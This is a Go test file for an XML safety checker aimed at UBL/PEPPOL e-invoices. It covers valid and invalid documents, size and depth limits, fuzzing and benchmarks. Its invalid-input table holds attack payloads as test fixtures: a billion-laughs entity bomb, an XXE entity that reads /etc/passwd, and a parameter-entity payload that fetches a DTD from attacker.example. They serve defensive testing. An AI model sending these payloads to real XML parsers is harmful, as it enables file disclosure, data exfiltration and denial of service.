package xmlsafe

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/iotest"
	"unicode/utf8"
)

// ublInvoice is a small valid UBL-like invoice with namespaces, comments,
// CDATA, processing instructions and the xml: prefix.
const ublInvoice = `<?xml version="1.0" encoding="UTF-8"?>
<!-- leading comment -->
<?xml-stylesheet type="text/xsl" href="invoice.xsl"?>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
         xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
         xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:CustomizationID>urn:cen.eu:en16931:2017#compliant#urn:fdc:peppol.eu:2017:poacc:billing:3.0</cbc:CustomizationID>
  <cbc:ID>Snippet1</cbc:ID>
  <cbc:Note xml:lang="da"><![CDATA[Blåbær & ærfugl <ikke et element>]]></cbc:Note>
  <?felles hint?>
  <cac:AccountingSupplierParty>
    <cac:Party><cbc:EndpointID schemeID="0184">DK12345678</cbc:EndpointID></cac:Party>
  </cac:AccountingSupplierParty>
  <cac:LegalMonetaryTotal>
    <cbc:PayableAmount currencyID="DKK">1250.00</cbc:PayableAmount>
  </cac:LegalMonetaryTotal>
  <!-- &amp; entities: &lt; &gt; &quot; &apos; -->
  <cbc:Note>&lt;&gt;&amp;&quot;&apos;&#229;&#xE5;</cbc:Note>
</Invoice>
<!-- trailing comment -->
<?trailing pi?>
`

// valid are documents Check must accept.
var valid = map[string]string{
	"ubl":                 ublInvoice,
	"minimal":             `<a/>`,
	"bom":                 "\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"utf-8\"?><a/>",
	"lowercase utf-8":     `<?xml version="1.0" encoding="utf-8"?><a/>`,
	"no encoding":         `<?xml version="1.0"?><a/>`,
	"whitespace around":   "\n\t <a/> \r\n",
	"same local name":     `<a xmlns:p="urn:p" x="1" p:x="2"/>`,
	"redeclared prefix":   `<a xmlns:p="urn:1"><b xmlns:p="urn:2" p:x="1"/></a>`,
	"xml prefix":          `<a xml:lang="no" xml:space="preserve"/>`,
	"xml prefix declared": `<a xmlns:xml="http://www.w3.org/XML/1998/namespace" xml:lang="no"/>`,
	"undeclare default":   `<a xmlns="urn:a"><b xmlns=""/></a>`,
	"default ns unqual":   `<a xmlns="urn:d" xmlns:d="urn:d" x="1" d:x="2"/>`,
	"different prefix ns": `<a xmlns:p="urn:1" xmlns:q="urn:2" p:x="1" q:x="2"/>`,
	"non-ASCII":           `<Fakturа navn="Ærø Å">Blåbær 😀</Fakturа>`,
	"entity text":         `<a>not a declaration: ENTITY &lt;!DOCTYPE</a>`,
	"deep at limit":       strings.Repeat("<a>", DefaultMaxDepth) + strings.Repeat("</a>", DefaultMaxDepth),
}

func TestCheckValid(t *testing.T) {
	for name, doc := range valid {
		t.Run(name, func(t *testing.T) {
			if err := Check([]byte(doc), Limits{}); err != nil {
				t.Errorf("Check = %v, want nil", err)
			}
		})
	}
}

// billionLaughs is the classic entity expansion bomb.
const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>`

// invalid are documents Check must refuse, with the expected kind.
var invalid = []struct {
	name string
	doc  string
	want Kind
}{
	{"billion laughs", billionLaughs, Entity},
	{"external entity XXE", `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, Entity},
	{"parameter entity", `<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd">%dtd;]><data>&send;</data>`, Entity},
	{"entity in comment", `<a><!-- <!ENTITY x "y"> --></a>`, Entity},
	{"entity in CDATA", `<a><![CDATA[<!ENTITY x "y">]]></a>`, Entity},
	{"bare entity directive", `<a/><!ENTITY x "y">`, Entity},
	{"DOCTYPE", `<?xml version="1.0"?><!DOCTYPE Invoice><Invoice/>`, DOCTYPE},
	{"DOCTYPE external", `<!DOCTYPE Invoice SYSTEM "http://attacker.example/x.dtd"><Invoice/>`, DOCTYPE},
	{"DOCTYPE internal subset", `<!DOCTYPE a [<!ELEMENT a ANY><!ATTLIST a x CDATA "1">]><a/>`, DOCTYPE},
	{"ELEMENT inside root", `<a><!ELEMENT a ANY></a>`, DOCTYPE},
	{"undeclared entity", `<a>&nbsp;</a>`, Malformed},
	{"deep nesting", strings.Repeat("<a>", 10000) + strings.Repeat("</a>", 10000), TooDeep},
	{"deep by one", strings.Repeat("<a>", DefaultMaxDepth+1) + strings.Repeat("</a>", DefaultMaxDepth+1), TooDeep},
	{"many attributes", manyAttrs(100000), TooManyAttributes},
	{"attributes by one", manyAttrs(DefaultMaxAttributes + 1), TooManyAttributes},
	{"duplicate attribute", `<a x="1" x="2"/>`, DuplicateAttribute},
	{"duplicate prefixed", `<a xmlns:p="urn:1" p:x="1" p:x="2"/>`, DuplicateAttribute},
	{"duplicate via prefixes", `<a xmlns:p="urn:1" xmlns:q="urn:1" p:x="1" q:x="2"/>`, DuplicateAttribute},
	{"duplicate via inherited", `<r xmlns:p="urn:1"><a xmlns:q="urn:1" q:x="1" p:x="2"/></r>`, DuplicateAttribute},
	{"xml namespace rebound", `<a xmlns:x="http://www.w3.org/XML/1998/namespace" xml:lang="a" x:lang="b"/>`, Malformed},
	{"xml prefix rebound", `<a xmlns:xml="urn:x"/>`, Malformed},
	{"xmlns prefix declared", `<a xmlns:xmlns="urn:x"/>`, Malformed},
	{"xmlns namespace bound", `<a xmlns:p="http://www.w3.org/2000/xmlns/"/>`, Malformed},
	{"xmlns default namespace", `<a xmlns="http://www.w3.org/2000/xmlns/"/>`, Malformed},
	{"empty prefix binding", `<a xmlns:p=""/>`, Malformed},
	{"colon after name", `<a:/>`, Malformed},
	{"colon before name", `<:a/>`, Malformed},
	{"attribute colon", `<a x:="1"/>`, Malformed},
	{"reserved PI target", `<?XML version="1.0"?><a/>`, Malformed},
	{"double dash comment", `<a><!-- x -- y --></a>`, Malformed},
	{"NUL", "<a>\x00</a>", Malformed},
	{"duplicate ns declaration", `<a xmlns:p="urn:1" xmlns:p="urn:2"/>`, DuplicateAttribute},
	{"duplicate default ns", `<a xmlns="urn:1" xmlns="urn:2"/>`, DuplicateAttribute},
	{"duplicate deep", `<r><s><a b="1" c="2" b="3"/></s></r>`, DuplicateAttribute},
	{"ISO-8859-1 declared", `<?xml version="1.0" encoding="ISO-8859-1"?><a/>`, Encoding},
	{"UTF-16 declared", `<?xml version="1.0" encoding="UTF-16"?><a/>`, Encoding},
	{"ISO-8859-1 bytes", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>Bl\xe5b\xe6r</a>", Encoding},
	{"invalid UTF-8", "<a>\xff\xfe</a>", Encoding},
	{"UTF-16 BOM", "\xff\xfe<\x00a\x00/\x00>\x00", Encoding},
	{"overlong UTF-8", "<a>\xc0\xbc</a>", Encoding},
	{"two roots", `<a/><b/>`, TrailingContent},
	{"two roots whitespace", "<a></a>\n<a></a>", TrailingContent},
	{"text after root", `<a/>trailing`, TrailingContent},
	{"text before root", `junk<a/>`, Malformed},
	{"empty", ``, NoRoot},
	{"whitespace only", " \n\t", NoRoot},
	{"comment only", `<!-- x --><?pi?>`, NoRoot},
	{"declaration only", `<?xml version="1.0"?>`, NoRoot},
	{"unclosed", `<a><b></b>`, Malformed},
	{"mismatched", `<a><b></a></b>`, Malformed},
	{"prefix mismatch", `<p:a xmlns:p="urn:1" xmlns:q="urn:1"></q:a>`, Malformed},
	{"stray end", `<a/></a>`, Malformed},
	{"unbound element prefix", `<p:a/>`, Malformed},
	{"unbound attribute prefix", `<a p:x="1"/>`, Malformed},
	{"late declaration", `<a/><?xml version="1.0"?>`, Malformed},
	{"declaration after space", ` <?xml version="1.0"?><a/>`, Malformed},
	{"version 1.1", `<?xml version="1.1"?><a/>`, Malformed},
	{"two colons", `<a:b:c/>`, Malformed},
	{"lt in attribute", `<a x="<"/>`, Malformed},
}

// manyAttrs returns an element with n distinct attributes.
func manyAttrs(n int) string {
	var b strings.Builder
	b.WriteString("<a")
	for i := range n {
		fmt.Fprintf(&b, ` a%d="%d"`, i, i)
	}
	b.WriteString("/>")
	return b.String()
}

func TestCheckInvalid(t *testing.T) {
	for _, tc := range invalid {
		t.Run(tc.name, func(t *testing.T) {
			err := Check([]byte(tc.doc), Limits{})
			var e *Error
			if !errors.As(err, &e) {
				t.Fatalf("Check = %v, want *Error of kind %v", err, tc.want)
			}
			if e.Reason != tc.want {
				t.Fatalf("Check = %v (kind %d), want kind %v", err, e.Reason, tc.want)
			}
			if !errors.Is(err, sentinels[tc.want]) {
				t.Errorf("errors.Is(%v, %v) = false", err, sentinels[tc.want])
			}
			for k := DOCTYPE; k <= TrailingContent; k++ {
				if k != tc.want && errors.Is(err, sentinels[k]) {
					t.Errorf("errors.Is(%v, %v) = true", err, sentinels[k])
				}
			}
			msg := err.Error()
			if !strings.HasPrefix(msg, "xmlsafe: ") || !utf8.ValidString(msg) {
				t.Errorf("Error() = %q, want valid UTF-8 with prefix xmlsafe: ", msg)
			}
			if strings.ContainsAny(msg, "\n\r\t") {
				t.Errorf("Error() = %q contains control characters", msg)
			}
			if len(e.Detail) > 2*maxQuote+40 {
				t.Errorf("Detail is %d bytes: %q", len(e.Detail), e.Detail)
			}
		})
	}
}

// TestErrorPosition checks the reported position of the offending token.
func TestErrorPosition(t *testing.T) {
	tests := []struct {
		doc       string
		line, col int
		offset    int64
	}{
		{"<r>\n  <a x=\"1\" x=\"2\"/>\n</r>", 2, 3, 6},
		{"\xEF\xBB\xBF<r>\n  <a x=\"1\" x=\"2\"/>\n</r>", 2, 3, 9},
		{"<r>\n <!DOCTYPE r></r>", 2, 2, 5},
		{"<r>\n\xff</r>", 2, 1, 4},
		{"<r/>\n\n<s/>", 3, 1, 6},
	}
	for _, tc := range tests {
		var e *Error
		if err := Check([]byte(tc.doc), Limits{}); !errors.As(err, &e) {
			t.Fatalf("Check(%q) = %v", tc.doc, err)
		}
		if e.Line != tc.line || e.Column != tc.col || e.Offset != tc.offset {
			t.Errorf("Check(%q) at line %d column %d offset %d, want %d %d %d (%v)",
				tc.doc, e.Line, e.Column, e.Offset, tc.line, tc.col, tc.offset, e)
		}
	}
}

// TestErrorQuotesLittle checks that an error never echoes much input.
func TestErrorQuotesLittle(t *testing.T) {
	long := strings.Repeat("x", 1000)
	docs := []string{
		"<!DOCTYPE " + long + ">",
		"<!-- <!ENTITY " + long + " -->",
		"<" + long + "></" + long + "y>",
		"<" + long + " a='1' a='2'/>",
		"<a>&" + long + ";</a>",
		"<p:" + long + "/>",
		"<a/><" + long + "/>",
		"<a>" + strings.Repeat("\x00\n", 100) + "</a>",
	}
	for _, doc := range docs {
		err := Check([]byte(doc), Limits{})
		if err == nil {
			t.Errorf("Check(%.20q…) = nil", doc)
			continue
		}
		if n := strings.Count(err.Error(), "x"); n > maxQuote+5 {
			t.Errorf("error echoes %d bytes of input: %v", n, err)
		}
	}
}

func TestLimits(t *testing.T) {
	doc := []byte(`<a x="1" y="2"><b><c/></b><d/></a>`) // 8 tokens (<c/> is two), depth 3, 2 attributes
	tests := []struct {
		lim  Limits
		want Kind
	}{
		{Limits{MaxBytes: int64(len(doc))}, 0},
		{Limits{MaxBytes: int64(len(doc)) - 1}, TooLarge},
		{Limits{MaxDepth: 3}, 0},
		{Limits{MaxDepth: 2}, TooDeep},
		{Limits{MaxAttributes: 2}, 0},
		{Limits{MaxAttributes: 1}, TooManyAttributes},
		{Limits{MaxTokens: 8}, 0},
		{Limits{MaxTokens: 7}, TooManyTokens},
		{Limits{MaxBytes: -1, MaxDepth: -1, MaxAttributes: -1, MaxTokens: -1}, 0},
	}
	for _, tc := range tests {
		err := Check(doc, tc.lim)
		var e *Error
		switch {
		case tc.want == 0 && err != nil:
			t.Errorf("Check(%+v) = %v, want nil", tc.lim, err)
		case tc.want != 0 && (!errors.As(err, &e) || e.Reason != tc.want):
			t.Errorf("Check(%+v) = %v, want %v", tc.lim, err, tc.want)
		}
	}
	if got := (Limits{}).withDefaults(); got != (Limits{DefaultMaxBytes, DefaultMaxDepth, DefaultMaxAttributes, DefaultMaxTokens}) {
		t.Errorf("Limits{}.withDefaults() = %+v", got)
	}
}

func TestTooManyTokensDefault(t *testing.T) {
	if testing.Short() {
		t.Skip("builds a 30 MB document")
	}
	doc := "<a>" + strings.Repeat("<b/>", DefaultMaxTokens/2) + "</a>" // 10 000 002 tokens
	err := Check([]byte(doc), Limits{MaxBytes: int64(len(doc))})
	if !errors.Is(err, ErrTooManyTokens) {
		t.Errorf("Check = %v, want ErrTooManyTokens", err)
	}
}

func TestReader(t *testing.T) {
	data, err := Reader(strings.NewReader(ublInvoice), Limits{})
	if err != nil || string(data) != ublInvoice {
		t.Errorf("Reader(valid) = %d bytes, %v", len(data), err)
	}
	data, err = Reader(strings.NewReader(billionLaughs), Limits{})
	if data != nil || !errors.Is(err, ErrEntity) {
		t.Errorf("Reader(billion laughs) = %d bytes, %v", len(data), err)
	}

	// An endless stream stops after MaxBytes+1 bytes.
	r := &countingReader{r: endless{}}
	data, err = Reader(r, Limits{MaxBytes: 1000})
	if data != nil || !errors.Is(err, ErrTooLarge) {
		t.Errorf("Reader(endless) = %d bytes, %v", len(data), err)
	}
	if r.n != 1001 {
		t.Errorf("Reader read %d bytes, want 1001", r.n)
	}

	// Exactly MaxBytes is fine.
	doc := "<a>" + strings.Repeat(" ", 993) + "</a>"
	if _, err := Reader(strings.NewReader(doc), Limits{MaxBytes: int64(len(doc))}); err != nil {
		t.Errorf("Reader(%d bytes, limit %d) = %v", len(doc), len(doc), err)
	}

	sentinel := errors.New("boom")
	if _, err := Reader(iotest.ErrReader(sentinel), Limits{}); !errors.Is(err, sentinel) {
		t.Errorf("Reader(failing) = %v, want %v", err, sentinel)
	}
}

// endless is an io.Reader that yields spaces forever.
type endless struct{}

func (endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

// countingReader counts the bytes read from r.
type countingReader struct {
	r io.Reader
	n int
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += n
	return n, err
}

func TestKindString(t *testing.T) {
	for k := DOCTYPE; k <= TrailingContent; k++ {
		if s := k.String(); s == "" || strings.HasPrefix(s, "xmlsafe.Kind") {
			t.Errorf("Kind(%d).String() = %q", k, s)
		}
		if sentinels[k] == nil {
			t.Errorf("no sentinel for %v", k)
		}
	}
	if s := Kind(99).String(); s != "xmlsafe.Kind(99)" {
		t.Errorf("Kind(99).String() = %q", s)
	}
	if errors.Is(&Error{Reason: 99}, ErrMalformed) || errors.Is(&Error{}, ErrMalformed) {
		t.Error("unknown Kind matches a sentinel")
	}
}

// TestUnwrap checks that decoder errors stay reachable.
func TestUnwrap(t *testing.T) {
	err := Check([]byte(`<a>&bogus;</a>`), Limits{})
	var e *Error
	if !errors.As(err, &e) || e.Unwrap() == nil {
		t.Errorf("Check = %v, want an *Error wrapping the decoder error", err)
	}
}

// conformanceDirs are where the shared PEPPOL BIS 3.0.19 conformance
// material may live, relative to this package.
var conformanceDirs = []string{
	"../../shared/conformance",
	"../../../shared/conformance",
}

// conformanceFiles returns the files matching pattern under the first
// conformance directory that has any, or skips t.
func conformanceFiles(t testing.TB, pattern string) []string {
	t.Helper()
	for _, dir := range conformanceDirs {
		files, _ := filepath.Glob(filepath.Join(dir, pattern))
		if len(files) > 0 {
			return files
		}
	}
	t.Skipf("no conformance files %s under %v; copy the PEPPOL BIS 3.0.19 examples there to run this test", pattern, conformanceDirs)
	return nil
}

// TestPeppolExamples checks that every official PEPPOL BIS Billing 3.0
// example passes.
func TestPeppolExamples(t *testing.T) {
	for _, f := range conformanceFiles(t, "peppol-bis-3.0.19/examples/*.xml") {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if err := Check(data, Limits{}); err != nil {
			t.Errorf("%s: %v", filepath.Base(f), err)
		}
	}
}

// TestConformanceSnippets checks the other shared conformance files too;
// they break business rules, not XML rules.
func TestConformanceSnippets(t *testing.T) {
	var files []string
	for _, p := range []string{"peppol-bis-3.0.19/snippets/*.xml", "peppol-bis-3.0.19/unit/*/*.xml", "peppol-bis-3.0.19/unit/*.xml", "cen-en16931-1.3.16/unit/*/*.xml", "cen-en16931-1.3.16/unit/*/*/*.xml"} {
		for _, dir := range conformanceDirs {
			m, _ := filepath.Glob(filepath.Join(dir, p))
			files = append(files, m...)
		}
	}
	if len(files) == 0 {
		t.Skipf("no conformance files under %v", conformanceDirs)
	}
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if err := Check(data, Limits{}); err != nil {
			t.Errorf("%s: %v", f, err)
		}
	}
	t.Logf("%d files", len(files))
}

func FuzzCheck(f *testing.F) {
	for _, doc := range valid {
		f.Add([]byte(doc))
	}
	for _, tc := range invalid {
		if len(tc.doc) < 4096 {
			f.Add([]byte(tc.doc))
		}
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		lim := Limits{MaxDepth: 64, MaxAttributes: 16, MaxTokens: 10000}
		err := Check(data, lim)
		if err == nil {
			if !utf8.Valid(bytes.TrimPrefix(data, utf8BOM)) || bytes.Contains(data, []byte("<!ENTITY")) {
				t.Fatalf("Check accepted %q", data)
			}
			return
		}
		var e *Error
		if !errors.As(err, &e) {
			t.Fatalf("Check = %T %v, want *Error", err, err)
		}
		if e.Reason < DOCTYPE || e.Reason > TrailingContent || !utf8.ValidString(err.Error()) {
			t.Fatalf("Check = %v (kind %d)", err, e.Reason)
		}
		if e.Offset > int64(len(data)) {
			t.Fatalf("offset %d beyond %d bytes: %v", e.Offset, len(data), err)
		}
		got, rerr := Reader(bytes.NewReader(data), lim)
		if got != nil || rerr == nil || rerr.Error() != err.Error() {
			t.Fatalf("Reader = %v, Check = %v", rerr, err)
		}
	})
}

// largeDocument returns a valid UBL-like invoice of about size bytes.
func largeDocument(size int) []byte {
	var b bytes.Buffer
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>` + "\n" +
		`<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" ` +
		`xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2" ` +
		`xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">` + "\n")
	for i := 0; b.Len() < size; i++ {
		fmt.Fprintf(&b, `  <cac:InvoiceLine>
    <cbc:ID>%d</cbc:ID>
    <cbc:InvoicedQuantity unitCode="EA">%d</cbc:InvoicedQuantity>
    <cbc:LineExtensionAmount currencyID="DKK">%d.00</cbc:LineExtensionAmount>
    <!-- line %d -->
    <cac:Item><cbc:Name>Blåbær &amp; ærfugl</cbc:Name><cbc:Description><![CDATA[<b>fed</b>]]></cbc:Description></cac:Item>
    <cac:Price><cbc:PriceAmount currencyID="DKK">12.50</cbc:PriceAmount></cac:Price>
  </cac:InvoiceLine>
`, i, i%7+1, i*3, i)
	}
	b.WriteString("</Invoice>\n")
	return b.Bytes()
}

func TestLargeDocument(t *testing.T) {
	if err := Check(largeDocument(1<<20), Limits{}); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkCheck(b *testing.B) {
	doc := largeDocument(10 << 20)
	b.SetBytes(int64(len(doc)))
	b.ReportAllocs()
	for b.Loop() {
		if err := Check(doc, Limits{}); err != nil {
			b.Fatal(err)
		}
	}
}

// TestIndexEntityDecl: the search by "!" finds what bytes.Index finds.
func TestIndexEntityDecl(t *testing.T) {
	cases := []string{"", "<!ENTITY", "x<!ENTITY", "!ENTITY<!ENTITY", "<<!ENTITY", "<! ENTITY<!ENTITY", "!!ENTITY", "<!ENTIT",
		"<a>!ENTITY</a><!-- <!ENTITY x 'y'> -->", "<!ENTITY!ENTITY", "!ENTITY", "<!!ENTITY<!ENTITY"}
	r := rand.New(rand.NewSource(3))
	for range 20000 {
		b := make([]byte, r.Intn(24))
		for i := range b {
			b[i] = "<!ENTITYx:"[r.Intn(10)]
		}
		cases = append(cases, string(b))
	}
	for _, c := range cases {
		if got, want := indexEntityDecl([]byte(c)), bytes.Index([]byte(c), []byte("<!ENTITY")); got != want {
			t.Errorf("indexEntityDecl(%q) = %d, want %d", c, got, want)
		}
	}
}
